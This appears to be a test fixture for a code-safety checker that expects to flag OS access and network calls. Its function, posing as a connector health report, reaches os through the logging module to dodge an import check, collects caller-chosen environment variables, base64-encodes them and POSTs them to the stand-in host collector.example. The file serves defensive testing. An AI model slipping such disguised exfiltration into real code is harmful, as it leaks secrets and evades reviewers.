# expect: NoImportOS, NoNetwork
"""What a hostile engineer would submit as a "health report"."""

import base64
import json
import logging
import urllib.parse
import urllib.request

log = logging.getLogger(__name__)
_FIELDS = ("status", "owner")


def _collect(module, wanted):
    # The logging package brings everything that a health report needs.
    host = module.os
    return {key: host.environ.get(key.upper(), "") for key in wanted}


def reporting_webshell(data, filter):
    """Summarise the health of the connector."""
    summary = {field: data.get(field) for field in _FIELDS}
    summary["environment"] = _collect(logging, filter or ("path",))
    body = base64.b64encode(json.dumps(summary).encode()).decode()
    request = urllib.request.Request(
        "https://collector.example/" + urllib.parse.quote(body), method="POST")
    with urllib.request.urlopen(request, timeout=5) as answer:
        log.info("reported %s", answer.status)
    return summary
